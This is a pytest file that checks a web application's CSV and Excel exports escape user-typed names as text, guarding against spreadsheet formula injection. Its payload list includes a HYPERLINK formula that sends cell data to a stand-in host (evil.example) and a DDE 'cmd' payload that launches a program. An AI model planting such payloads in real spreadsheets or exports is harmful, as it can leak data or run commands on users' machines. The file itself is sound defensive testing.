"""Formula injection in the supervisors' exports (security item 4): a name a user typed reaches the CSV and the
Excel workbook as text, never as a formula — for every export (REST export.csv / export.xlsx and the
dashboard's CSV / Excel download)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from mediation.cases import service as svc
from mediation.db.models import Enterprise
from tests.factories import World, application
from tests.fixtures import Api
from tests.helpers import TODAY, browser_login

EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def evil(db: Session, world: World) -> list[str]:
    """Enterprises named like formulas, each with a case in the supervisor's county; an organisation name too."""
    names = []
    for name in EVIL:
        ent = Enterprise(name=name, industry="C", ownership="private", region_code="330402")
        db.add(ent)
        db.commit()
        svc.create_case(db, actor=world.actor(world.clerk), data=application(world, enterprise_id=ent.id),
                        today=TODAY, env=world.env)
        names.append(name)
    world.county.name = "=HYPERLINK(\"http://evil.example\")区总工会"
    db.commit()
    return names


def _csv_cells(raw: bytes) -> list[str]:
    assert raw.startswith("\ufeff".encode())
    return [c for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for c in row]


def _check_csv(raw: bytes, names: list[str]) -> None:
    cells = _csv_cells(raw)
    for name in names:
        assert "'" + name in cells, name  # present, quoted as text
        assert name not in cells  # never the bare formula
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


def _check_every_sheet(raw: bytes, names: list[str]) -> None:
    """The dashboard's workbook: no formula in any sheet, and every typed name a text cell."""
    cells = [c for ws in load_workbook(io.BytesIO(raw)).worksheets for row in ws.iter_rows() for c in row
             if c.value is not None]
    assert not any(c.data_type == "f" for c in cells)
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for name in (n.replace("\r", "\n") for n in names):
        assert name in texts, name
        assert texts[name].data_type == "s" and texts[name].quotePrefix


def _check_xlsx(raw: bytes, names: list[str]) -> None:
    ws = load_workbook(io.BytesIO(raw)).active
    assert ws is not None
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not any(c.data_type == "f" for c in cells)
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for name in (n.replace("\r", "\n") for n in names):  # XML stores a CR as a line feed
        assert name in texts, name
        assert texts[name].data_type == "s" and texts[name].quotePrefix
    title = ws["A1"]
    assert title.data_type == "s" and str(title.value).startswith("=HYPERLINK") and title.quotePrefix
    # numbers stay numbers
    assert any(isinstance(c.value, int) for c in cells)


def test_rest_exports_write_typed_names_as_text(api: Api, world: World, evil: list[str]) -> None:
    sup = api.as_(world.supervisor)
    q = "by=enterprise&from=2025-01-01&to=2025-12-31"
    r = sup.get(f"/api/v1/hotspots/export.csv?{q}")
    assert r.status_code == 200, r.get_data(as_text=True)
    _check_csv(r.data, evil)
    r = sup.get(f"/api/v1/hotspots/export.xlsx?{q}")
    assert r.status_code == 200
    _check_xlsx(r.data, evil)


def _login(client: FlaskClient, world: World) -> None:
    browser_login(client, world.supervisor)


def test_dashboard_exports_write_typed_names_as_text(client: FlaskClient, world: World, evil: list[str]) -> None:
    _login(client, world)
    q = "from=2025-01&to=2025-12"
    r = client.get(f"/ui/dashboard/export.csv?table=enterprises&{q}")
    assert r.status_code == 200, r.get_data(as_text=True)[:300]
    _check_csv(r.data, evil)
    r = client.get(f"/ui/dashboard/export.xlsx?{q}")
    assert r.status_code == 200
    _check_every_sheet(r.data, evil)


def test_csv_title_keeps_a_formula_like_scope_as_text(api: Api, world: World, evil: Any) -> None:
    r = api.as_(world.supervisor).get("/api/v1/hotspots/export.csv?by=enterprise&from=2025-01-01&to=2025-12-31")
    first = next(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
    assert first[0].startswith("'=HYPERLINK")
